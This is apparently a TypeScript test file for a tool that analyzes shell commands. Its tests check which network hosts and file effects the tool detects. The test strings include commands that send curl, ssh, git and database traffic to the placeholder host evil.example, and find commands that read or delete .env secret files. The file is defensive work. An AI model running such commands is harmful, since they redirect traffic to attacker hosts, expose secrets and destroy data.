import { describe, expect, test } from "vitest";
import { analyze } from "../src/index.ts";
import { effectsOf } from "./told.ts";

const hostsOf = (line: string): readonly string[] =>
  analyze(line).commands.flatMap(({ effects }) =>
    effects.flatMap((effect) => (effect.kind === "network" ? [effect.host ?? "?"] : [])),
  );

describe("the hosts of a command are also those that its settings send it to", () => {
  test.each([
    ["https_proxy=http://evil.example:1 curl http://a", ["a", "evil.example"]],
    ["ALL_PROXY=evil.example curl http://a", ["a", "evil.example"]],
    ["ALL_PROXY=$X curl http://a", ["a", "?"]],
    ["ALL_PROXY= curl http://a", ["a"]],
    ["PROXY_COUNT=evil.example curl http://a", ["a"]],
    ["export https_proxy=http://evil.example; curl http://a", ["evil.example", "a"]],
    ["https_proxy=evil.example; curl http://a", ["evil.example", "a"]],
    ["DOCKER_HOST=tcp://evil.example:2375 docker ps", ["evil.example"]],
    ["GOPROXY=https://evil.example,direct true", ["evil.example", "direct"]],
    ["curl -x evil.example:3128 http://a", ["evil.example", "a"]],
    ["curl --resolve a:80:evil.example http://a", ["evil.example", "a"]],
    ["curl --resolve 'a:80:10.0.0.1,[::1]' http://a", ["10.0.0.1", "::1", "a"]],
    ["curl --connect-to a:80:evil.example:80 http://a", ["evil.example", "a"]],
    ["curl --connect-to ::evil.example:80 http://a", ["evil.example", "a"]],
    ["curl --connect-to a:80:: http://a", ["a"]],
    ["curl -K f http://a", ["?", "a"]],
    ["curl --unix-socket /s http://a", ["?", "a"]],
    ["wget -e https_proxy=http://evil.example http://a", ["evil.example", "a"]],
    ["psql postgres://u@evil.example/x", ["evil.example"]],
    ["psql postgres://u@a:1,evil.example:2/x", ["a", "evil.example"]],
    ["psql 'postgresql:///x?host=evil.example'", ["evil.example"]],
    ["psql 'dbname=x host=evil.example'", ["evil.example"]],
    ["psql -d 'host=/run/x dbname=y'", []],
    ["psql mydb", []],
    ["psql service=x", ["?"]],
    ["pg_dump -h evil.example x", ["evil.example"]],
    ["mongosh mongodb://evil.example", ["evil.example"]],
    ["mongosh mongodb+srv://u:p@evil.example/x", ["evil.example"]],
    ["mongo evil.example/x", ["evil.example"]],
    ["mongosh x.js", []],
    ["ssh -o HostName=evil.example h", ["evil.example", "h"]],
    ["ssh -J u@evil.example:2,b h", ["evil.example", "b", "h"]],
    ["ssh -o ProxyJump=evil.example h", ["evil.example", "h"]],
    ["ssh -L 1:evil.example:80 h", ["evil.example", "h"]],
    ["ssh -L 127.0.0.1:1:evil.example:80 h", ["evil.example", "h"]],
    ["ssh -R 1:evil.example:80 h", ["evil.example", "h"]],
    ["ssh -R 8080 h", ["h"]],
    ["ssh -o 'LocalForward=1 evil.example:80' h", ["evil.example", "h"]],
    ["ssh -W evil.example:80 h", ["evil.example", "h"]],
    ["ssh -F f h", ["?", "h"]],
    ["ssh -F none h", ["h"]],
    ["scp -o HostName=evil.example f h:", ["evil.example", "h"]],
    [
      "git -c url.https://evil.example/.insteadOf=https://a/ clone https://a/x",
      ["evil.example", "a"],
    ],
    ["git -c http.proxy=evil.example:3128 clone https://a/x", ["evil.example", "a"]],
    ["git -c user.name=evil.example status", []],
    ["kubectl -s https://evil.example:6443 get pods", ["evil.example", "?"]],
  ])("%s", (line, hosts) => expect(new Set(hostsOf(line))).toEqual(new Set(hosts)));
});

describe("files that stand in the arguments of a script, in options and in an expression", () => {
  test.each([
    ["python3 x.py .env", ["read .env", "write .env"]],
    ["node x.js --in=.env", ["read .env"]],
    ["deno run -A --env-file=.env x.ts", ["read .env"]],
    ["deno run --env-file x.ts", ["read .env"]],
    ["frobnicate @.env", ["read .env"]],
    ["frobnicate --data=@.env", ["read .env"]],
    ["mktemp -p /etc", ["write /etc"]],
    ["logger -f .env", ["read .env"]],
    ["mount --bind /etc x", ["read+ /etc", "write+ x"]],
    ["git apply --directory=/etc p", ["write+ /etc"]],
    ["find . -name .env -exec cat {} \\;", ["read **/.env"]],
    ["find src lib/ -name .env -delete", ["delete src/**/.env", "delete lib/**/.env"]],
    ["find / -path '*/a/.env' -exec rm {} +", ["delete /**/.env"]],
    ["find ~ -iname .ENV -delete", ["delete ~/**/.env"]],
    ["find . -name '.en[v]' -delete", ["delete **/.en*"]],
  ])("%s", (line, effects) => expect(effectsOf(line)).toEqual(expect.arrayContaining(effects)));

  test.each([
    ["find . -name .env", "**/.env"],
    ["find . -not -name .env -delete", "**/.env"],
    ["find . -name .git -prune -o -name x -delete", "**/.git"],
    ["find . -name x -exec echo {} \\;", "**/x"],
  ])("%s does nothing to %s", (line, name) =>
    expect(effectsOf(line).filter((effect) => effect.endsWith(name))).toEqual([]),
  );
});
